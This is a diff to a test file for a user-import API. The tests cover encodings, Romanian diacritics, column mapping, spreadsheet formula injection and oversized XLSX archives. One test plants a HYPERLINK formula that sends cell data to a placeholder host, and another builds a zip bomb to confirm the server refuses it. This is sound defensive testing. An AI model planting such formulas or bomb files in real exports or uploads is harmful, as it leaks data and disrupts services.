@@ -1,15 +1,22 @@
 import { MAX_IMPORT_ROWS, texts } from '@ssm/shared';
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import writeExcelFile from 'write-excel-file/node';
 import { getUserById, listUsersOfCompany } from '../../src/data/users';
 import { buildTenant, tokenFor, uniqueName } from '../support/builders';
 import { type ApiAnswer, useTestGateway } from '../support/gateway';
 import { readMailsTo } from '../support/outbox';
+import { buildZip, deflatedEntry, zerosEntry } from '../support/zip-files';
 
 const api = useTestGateway();
 
 type Row = { row: number; username: string; status: string; role: string; errors: Record<string, string[]> };
-type Preview = { rows: Row[]; summary: { new: number; existing: number; invalid: number } };
+type Preview = {
+  rows: Row[];
+  summary: { new: number; existing: number; invalid: number };
+  encoding: string;
+  unknown_columns: { column: number; header: string; choice: string | null }[];
+};
 type Imported = {
   created: {
     id: string;
@@ -26,10 +33,15 @@ type Imported = {
 async function upload<T>(
   path: string,
   token: string,
-  fields: { company?: string; file?: { name: string; content: string | Uint8Array } },
+  fields: {
+    company?: string;
+    file?: { name: string; content: string | Uint8Array };
+    columns?: Record<string, string>;
+  },
 ): Promise<ApiAnswer<T>> {
   const form = new FormData();
   if (fields.company) form.set('company', fields.company);
+  if (fields.columns) form.set('columns', JSON.stringify(fields.columns));
   if (fields.file) form.set('file', new Blob([fields.file.content]), fields.file.name);
   const response = await fetch(api.url() + path, {
     method: 'POST',
@@ -81,8 +93,10 @@ describe('POST /api/users/import/preview/', () => {
     expect(byRow[7]).toMatchObject({ status: 'new', role: 'admin' });
     expect(byRow[8]).toMatchObject({ status: 'invalid', errors: { username: [texts.people.usernameTaken] } });
     expect(byRow[9]).toMatchObject({ status: 'invalid', errors: { role: [texts.userImport.roleInvalid] } });
-    expect(byRow[10]?.status).toBe('invalid');
-    expect(byRow[10]?.errors.birth_date).toBeDefined();
+    expect(byRow[10]).toMatchObject({
+      status: 'invalid',
+      errors: { birth_date: [texts.importFile.dateNonexistent] },
+    });
     expect((await listUsersOfCompany(company.id)).users).toHaveLength(2);
   });
 
@@ -91,6 +105,11 @@ describe('POST /api/users/import/preview/', () => {
       'a file without the required columns',
       { name: 'a.csv', content: 'Prenume;Nume\nAna;Marin\n' },
       texts.userImport.missingColumns('Nume utilizator, Email'),
+    ],
+    [
+      'a file missing a required column beside one it does not recognise',
+      { name: 'a.csv', content: 'Nume utilizator;Prenumele;Nume;Email\nana;Ana;Pop;ana@example.ro\n' },
+      texts.importFile.missingColumnsBesideUnknown('Prenume', 'Prenumele'),
     ],
     ['a file with a header only', { name: 'a.csv', content: `${HEADER}\n\n` }, texts.userImport.noRows],
     [
@@ -232,5 +251,202 @@ describe('POST /api/users/import/', () => {
 
     expect(answer.status).toBe(404);
     expect((await listUsersOfCompany(other.company.id)).users).toHaveLength(2);
+  });
+});
+
+/** The peak resident memory of this process so far, in MiB (the kernel's own high-water mark). */
+function peakMemoryMiB(): number {
+  return process.resourceUsage().maxRSS / 1024;
+}
+
+/** Windows-1250 bytes of a text, for the letters a Romanian file holds (ș ț exist only with the cedilla). */
+function toWindows1250(text: string): Uint8Array {
+  const codes: Record<string, number> = {
+    ă: 0xe3,
+    â: 0xe2,
+    î: 0xee,
+    ș: 0xba,
+    ş: 0xba,
+    ț: 0xfe,
+    ţ: 0xfe,
+    Ă: 0xc3,
+    Â: 0xc2,
+    Î: 0xce,
+    Ș: 0xaa,
+    Ş: 0xaa,
+    Ț: 0xde,
+    Ţ: 0xde,
+  };
+  return Uint8Array.from([...text].map((letter) => codes[letter] ?? letter.charCodeAt(0) & 0x7f));
+}
+
+function toUtf16(text: string, order: 'le' | 'be'): Uint8Array {
+  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le');
+  return order === 'le' ? bytes : bytes.swap16();
+}
+
+describe('what the import does with hostile or careless files', () => {
+  it.each([
+    ['utf-8', (text: string) => new TextEncoder().encode(text)],
+    ['utf-8-bom', (text: string) => new TextEncoder().encode(`\uFEFF${text}`)],
+    ['utf-16le', (text: string) => toUtf16(text, 'le')],
+    ['utf-16be', (text: string) => toUtf16(text, 'be')],
+    ['windows-1250', toWindows1250],
+  ])('reads a %s file, says so, and keeps its birth dates and diacritics', async (encoding, encode) => {
+    const { owner, company } = await buildTenant();
+    const name = uniqueName('codare');
+    const text = `${HEADER}\r\n${name};Ştefan;Ţărănuş;${name}@example.ro;02.11.1990;Sudor;\r\n`;
+
+    const preview = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
+      company: company.id,
+      file: { name: 'angajati.csv', content: encode(text) },
+    });
+    const imported = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
+      company: company.id,
+      file: { name: 'angajati.csv', content: encode(text) },
+    });
+
+    expect(preview.body).toMatchObject({ encoding, unknown_columns: [], summary: { new: 1, invalid: 0 } });
+    expect(imported.body.created).toEqual([
+      expect.objectContaining({ username: name, birth_date: '1990-11-02' }),
+    ]);
+    const user = await getUserById(imported.body.created[0]?.id ?? '');
+    // The cedilla forms the file (or Windows-1250) had are stored with the comma below.
+    expect([user?.first_name, user?.last_name, user?.job_title]).toEqual(['Ștefan', 'Țărănuș', 'Sudor']);
+  });
+
+  it('flags names whose diacritics were lost before the file reached us', async () => {
+    const { owner, company } = await buildTenant();
+    const name = uniqueName('pierdut');
+
+    const answer = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
+      company: company.id,
+      file: csvOf([
+        `${name}.a;?tefan;Pop;${name}.a@example.ro;;;`,
+        `${name}.b;Ana;Mure\uFFFDan;${name}.b@example.ro;;;`,
+        `${name}.c;ÈšÄƒranu;Ion;${name}.c@example.ro;;;`,
+      ]),
+    });
+
+    expect(answer.body.rows.map((row) => row.errors)).toEqual([
+      { first_name: [texts.importFile.lostDiacritics] },
+      { last_name: [texts.importFile.lostDiacritics] },
+      { first_name: [texts.importFile.lostDiacritics] },
+    ]);
+  });
+
+  it('lists a column it does not recognise and imports only once it is read as a field or ignored', async () => {
+    const { owner, company } = await buildTenant();
+    const token = await tokenFor(owner);
+    const name = uniqueName('coloane');
+    const file = {
+      name: 'angajati.csv',
+      content: `Nume utilizator;Prenume;Nume;Email;Post ocupat;Observații\r\n${name};Ana;Pop;${name}@example.ro;Sudor;alergică\r\n`,
+    };
+
+    const preview = await upload<Preview>('/api/users/import/preview/', token, { company: company.id, file });
+    const refused = await upload('/api/users/import/', token, { company: company.id, file });
+    const twice = await upload('/api/users/import/', token, {
+      company: company.id,
+      file,
+      columns: { 'Post ocupat': 'first_name', Observații: 'ignore' },
+    });
+    const usersBefore = (await listUsersOfCompany(company.id)).users.length;
+    const chosen = await upload<Imported>('/api/users/import/', token, {
+      company: company.id,
+      file,
+      columns: { 'Post ocupat': 'job_title', Observații: 'ignore' },
+    });
+
+    expect(preview.body.unknown_columns).toEqual([
+      { column: 5, header: 'Post ocupat', choice: null },
+      { column: 6, header: 'Observații', choice: null },
+    ]);
+    const unresolved = texts.importFile.unknownColumnsUnresolved('Post ocupat, Observații');
+    expect(refused).toMatchObject({
+      status: 400,
+      body: { detail: unresolved, errors: { columns: [unresolved] } },
+    });
+    expect(twice).toMatchObject({
+      status: 400,
+      body: { detail: texts.importFile.fieldFromTwoColumns(texts.people.firstName) },
+    });
+    expect(usersBefore).toBe(2);
+    expect(chosen.status).toBe(201);
+    expect(chosen.body.created).toEqual([expect.objectContaining({ username: name, job_title: 'Sudor' })]);
+  });
+
+  it('refuses a column choice that is not JSON or names no field', async () => {
+    const { owner, company } = await buildTenant();
+    const token = await tokenFor(owner);
+    const form = new FormData();
+    form.set('company', company.id);
+    form.set('file', new Blob([csvOf([]).content]), 'a.csv');
+    form.set('columns', '{nu e json');
+    const notJson = await fetch(`${api.url()}/api/users/import/preview/`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${token}` },
+      body: form,
+    });
+    const noField = await upload('/api/users/import/preview/', token, {
+      company: company.id,
+      file: csvOf([]),
+      columns: { Observații: 'password_hash' },
+    });
+
+    expect(notJson.status).toBe(400);
+    expect(await notJson.json()).toMatchObject({ detail: texts.importFile.columnsInvalid });
+    expect(noField).toMatchObject({ status: 400, body: { detail: texts.importFile.columnsInvalid } });
+  });
+
+  it('writes a passwords file whose cells a spreadsheet opens as text, not formulas', async () => {
+    const { owner, company } = await buildTenant();
+    const name = uniqueName('formula');
+    const planted = '=HYPERLINK("http://x.example/?"&A1,"Click")';
+
+    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
+      company: company.id,
+      file: csvOf([`@${name};${planted};-2+3;${name}@example.ro;;;`]),
+    });
+
+    const [, row]: string[][] = parse(answer.body.credentials_csv, { bom: true, delimiter: ';' });
+    expect(row?.slice(0, 3)).toEqual([`'@${name}`, `'${planted}`, "'-2+3"]);
+    // The names themselves are stored as written: only the exported cell is made inert.
+    expect(answer.body.created[0]).toMatchObject({ username: `@${name}`, first_name: planted });
+  });
+
+  it.each([
+    [
+      'declares its true size',
+      async () =>
+        buildZip([
+          deflatedEntry('[Content_Types].xml', '<Types/>'),
+          await zerosEntry('xl/worksheets/sheet1.xml', 300),
+        ]),
+    ],
+    [
+      'declares a small size',
+      async () => buildZip([{ ...(await zerosEntry('xl/worksheets/sheet1.xml', 300)), declaredSize: 1024 }]),
+    ],
+  ])('refuses an XLSX that unpacks to 300 MiB (and %s) without unpacking it', async (_case, build) => {
+    const { owner, company } = await buildTenant();
+    const bomb = await build();
+    const peakBefore = peakMemoryMiB();
+
+    const answer = await upload('/api/users/import/preview/', await tokenFor(owner), {
+      company: company.id,
+      file: { name: 'angajati.xlsx', content: bomb },
+    });
+
+    expect(bomb.length).toBeLessThan(400 * 1024);
+    expect(answer).toMatchObject({
+      status: 400,
+      body: {
+        detail: texts.importFile.unpacksTooLarge,
+        errors: { file: [texts.importFile.unpacksTooLarge] },
+      },
+    });
+    expect(peakMemoryMiB() - peakBefore).toBeLessThan(64);
+    expect((await listUsersOfCompany(company.id)).users).toHaveLength(2);
   });
 });
